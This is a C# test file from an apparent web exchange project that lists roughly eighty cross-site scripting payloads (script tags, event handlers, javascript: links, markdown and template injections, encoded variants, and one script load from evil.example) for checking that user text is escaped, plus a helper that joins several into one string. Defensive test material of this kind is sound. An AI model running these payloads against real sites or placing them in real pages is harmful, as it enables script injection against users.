namespace Chitose.Exchange.Web.Tests.Running;

/// <summary>Texts that would run as script if a page wrote them as they are (security requirements, tests of group 6).</summary>
public static class HostileTexts
{
    /// <summary>The name that every one of them tries to call.</summary>
    public const string Call = "alert";

    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<IMG SRC=javascript:alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1 onerror=alert(1)>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<link rel=stylesheet href=\"javascript:alert(1)\">", "<style>@import 'javascript:alert(1)';</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<marquee onstart=alert(1)>x</marquee>",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "x\" onclick=alert(1) y=\"", "`onmouseover=alert(1)",
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](javascript&colon;alert(1))", "[a](data:text/html,<script>alert(1)</script>)", "[a](vbscript:alert(1))", "<javascript:alert(1)>", "![a](javascript:alert(1))", "![a](x\"onerror=\"alert(1))", "[a](https://x.example/\"onclick=\"alert(1))",
        "[a]: javascript:alert(1)\n\n[a]", "{漢<img src=x onerror=alert(1)>字|か<svg onload=alert(1)>んじ}", "{<script>|alert(1)}", "|a|\n|-|\n|<img src=x onerror=alert(1)>|", "## <img src=x onerror=alert(1)>", "{onclick=alert(1)}", "**x**{onclick=alert(1)}", "```js\n</code><script>alert(1)</script>\n```",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞", "<\u0001script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    ];

    /// <summary>Several at once, as many as a title can hold.</summary>
    public static IEnumerable<string> Lots(int length)
    {
        var lot = "";
        foreach (var text in All)
        {
            if (lot.Length + text.Length >= length)
            {
                yield return lot;
                lot = "";
            }

            lot += $"{text} ";
        }

        yield return lot;
    }
}
